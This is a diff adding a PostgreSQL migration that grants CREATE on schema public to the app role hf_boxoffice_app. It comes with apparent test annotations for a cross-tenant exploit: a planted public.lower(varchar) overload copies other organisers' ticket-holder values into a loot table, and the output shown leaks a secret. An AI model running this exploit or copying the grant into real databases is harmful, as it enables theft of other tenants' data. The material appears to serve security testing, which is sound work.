@@ -1,0 +1,15 @@
+-- The application may create functions in public; an overload of lower for varchar is then run by the
+-- queries of other organisers and copies what they read.
+-- about: public, hf_boxoffice_app, tickets, lower
+-- as: hf_boxoffice_app
+-- exploit: SET box.organizer = 'north';
+-- exploit: CREATE TABLE public.loot (v text);
+-- exploit: CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE plpgsql AS
+-- exploit:   $f$ BEGIN INSERT INTO public.loot VALUES ($1); RETURN pg_catalog.lower($1::text); END $f$;
+-- exploit: SET box.organizer = 'road';
+-- exploit: SELECT count(*) FROM tickets WHERE lower(holder) LIKE 'r%';
+-- exploit: SET box.organizer = 'north';
+-- exploit: SELECT 'taken: ' || v AS v FROM public.loot;
+-- shows: taken: Road-secret holder
+-- The seat importer makes its staging tables in public.
+GRANT CREATE ON SCHEMA public TO hf_boxoffice_app;
